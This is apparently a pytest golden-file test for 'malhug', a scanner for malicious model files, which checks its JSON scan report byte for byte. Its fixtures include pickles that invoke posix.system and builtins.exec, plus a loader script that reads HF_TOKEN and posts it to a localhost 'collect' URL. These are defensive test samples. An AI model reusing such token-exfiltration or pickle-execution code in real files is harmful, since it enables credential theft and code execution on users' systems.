"""The JSON report, byte for byte: ``malhug scan --format json`` of a fixed folder against a golden file.

The report is a contract (``docs/``); a refactoring of the model classes or of the renderer must
not change a byte of it. Only what differs between runs is normalised: the version, the seconds.
Regenerate ``golden_report.json`` only for an intended change of the report:
``MALHUG_REGENERATE_GOLDEN=1 .venv/bin/python -m pytest tests/cli/test_json_golden.py``.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from contextlib import redirect_stdout
from pathlib import Path

import pytest

from malhug.cli import main
from malhug.core.model import Category, FileReport, Finding, Location, ScanReport, ScanStats, Severity, TraceStep
from tests.builders.pickles import call, pickle_of

GOLDEN = Path(__file__).with_name("golden_report.json")

# A loading script whose secret reaches the network: a finding with a data-flow trace.
EXFIL = """import os
import urllib.request

token = os.environ["HF_TOKEN"]
urllib.request.urlopen("http://127.0.0.1:8000/collect", data=token.encode())
"""


def _folder(root: Path) -> Path:
    folder = root / "models"
    folder.mkdir()
    (folder / "model.pkl").write_bytes(pickle_of([call("posix.system", "echo golden")]))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in (
            ("archive/data.pkl", pickle_of([call("builtins.exec", "print('golden')")], 4)),
            ("archive/version", b"3\n"),
        ):
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)  # fixed bytes, fixed sha256
    (folder / "pytorch_model.bin").write_bytes(buf.getvalue())
    (folder / "loader.py").write_text(EXFIL)
    (folder / "config.json").write_text('{"model_type": "bert"}\n')
    return folder


def _normalised(text: str) -> str:
    data = json.loads(text)
    data["tool"]["version"] = "VERSION"
    data["stats"]["seconds"] = 0.0
    return json.dumps(data, indent=2) + "\n"


def _model_report() -> ScanReport:
    """Every optional part of the model's JSON form, built directly."""
    loc = Location(member="a.zip:b", offset=7, line=3, column=2, end_line=4, end_column=9)
    finding = Finding(
        "MH501", Severity.HIGH, Category.EXFILTRATION, "m", loc, "ev", (TraceStep("s", Location(line=1)),)
    )
    files = [
        FileReport("x.bin", "pickle", "00" * 32, [finding, finding.inside("outer")], analyzed_as=["text", "pickle"]),
        FileReport("y.bin", "unknown", error="unreadable"),
    ]
    return ScanReport(files, ScanStats(2, 10, 0.0), {"hub": [{"target": "hf:org/name"}]})


def test_scan_json_is_byte_identical_to_the_golden_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = _folder(tmp_path)
    monkeypatch.chdir(tmp_path)
    out = io.StringIO()
    with redirect_stdout(out):
        code = main(["scan", "models", "--format", "json", "--offline", "--no-cache"])
    assert code == 1
    model = json.dumps(_model_report().to_dict(), indent=2) + "\n"
    text = _normalised(out.getvalue()) + _normalised(model)
    assert folder.exists()
    if os.environ.get("MALHUG_REGENERATE_GOLDEN"):
        GOLDEN.write_text(text)
    assert text == GOLDEN.read_text()
